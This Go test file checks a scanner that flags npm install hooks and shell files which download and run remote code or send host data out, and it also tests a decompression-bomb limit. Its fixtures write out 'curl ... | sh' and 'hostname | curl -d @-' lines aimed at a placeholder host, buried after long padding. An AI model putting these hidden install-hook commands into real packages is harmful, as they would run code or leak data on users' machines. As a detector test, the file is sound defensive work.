package behavior

import (
	"bytes"
	"strings"
	"testing"
)

// TestHostileShellTexts: long texts for shells, and files to build from, take what
// they must; with a look at all for each part of them, these took minutes or all
// memory. What is hidden at their end is found.
func TestHostileShellTexts(t *testing.T) {
	c, err := Load()
	if err != nil {
		t.Fatal(err)
	}
	manifest := func(script string) string {
		return `{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "` + script + `"}}`
	}
	for _, test := range []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"commands without end", map[string]string{"package.json": manifest(strings.Repeat("sh a;", 40_000) + "curl https://a.invalid | sh")}, "trait/lifecycle-download"},
		{"downloads without end", map[string]string{"package.json": manifest(strings.Repeat("curl -o f http://a.invalid/x;", 7_000) + "./f")}, "trait/lifecycle-download"},
		{"a download far behind", map[string]string{"package.json": manifest("sh -c 'true " + strings.Repeat("; true", 5_000) + "; $(curl https://a.invalid)'")}, "trait/lifecycle-download"},
		{"programs that start each other", map[string]string{"package.json": manifest(strings.Repeat("nohup ", 40_000) + "x; curl https://a.invalid | sh")}, "trait/lifecycle-download"},
		{"a shell file that is run without end", map[string]string{"package.json": `{"name": "a", "version": "1.0.0", "main": "x.js"}`,
			"x.js": "const { exec } = require('child_process')\n" + strings.Repeat("exec('sh x.sh')\n", 3_000), "x.sh": strings.Repeat("true\n", 10_000) + "curl https://a.invalid | sh"}, "trait/shell-download"},
		{"a pipe without end", map[string]string{"package.json": manifest("hostname" + strings.Repeat(" | [[ a ]]", 20_000) + "; hostname | curl -d @- https://a.invalid")}, "trait/shell-data-sent"},
		{"programs in a pipe without end", map[string]string{"package.json": manifest(strings.Repeat("a | ", 40_000) + "hostname | curl -d @- https://a.invalid")}, "trait/shell-data-sent"},
		{"substitutions in each other", map[string]string{"package.json": manifest(strings.Repeat("a $(", 20_000) + strings.Repeat(")", 20_000) + "; curl https://a.invalid/$(hostname)")}, "trait/shell-data-sent"},
		{"substitutions without end", map[string]string{"package.json": manifest(strings.Repeat("V=$(hostname); curl https://a.invalid/$V$V$V$V;", 5_000))}, "trait/shell-data-sent"},
		{"brackets that do not end", map[string]string{"package.json": manifest("true"), "binding.gyp": strings.Repeat("<!(", 80_000)}, ""},
		{"actions that do not end", map[string]string{"package.json": manifest("true"), "binding.gyp": "'action': [" + strings.Repeat("'a', ", 40_000)}, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			files := map[string][]byte{}
			for name, text := range test.files {
				files[name] = []byte(text)
			}
			found := ""
			for _, trait := range find(t, c, files).Traits {
				if trait.ID == test.want {
					found = trait.ID
				}
			}
			if found != test.want {
				t.Errorf("%q is not found", test.want)
			}
		})
	}
}

// TestMacroBomb: a chunk of compressed text holds 4,096 bytes, whatever it says.
func TestMacroBomb(t *testing.T) {
	chunk := append([]byte{0xfe, 'a'}, bytes.Repeat([]byte{0xff, 0x0f}, 7)...) // each as long as can be
	for len(chunk)+17 < 4096 {
		chunk = append(append(chunk, 0xff), bytes.Repeat([]byte{0xff, 0x0f}, 8)...)
	}
	size := len(chunk) + 2 - 3
	bomb := append([]byte{1, byte(size), byte(0xb0 | size>>8)}, chunk...)
	if got := len(decompress(bomb)); got == 0 || got > chunkSize {
		t.Errorf("%d bytes", got)
	}
}
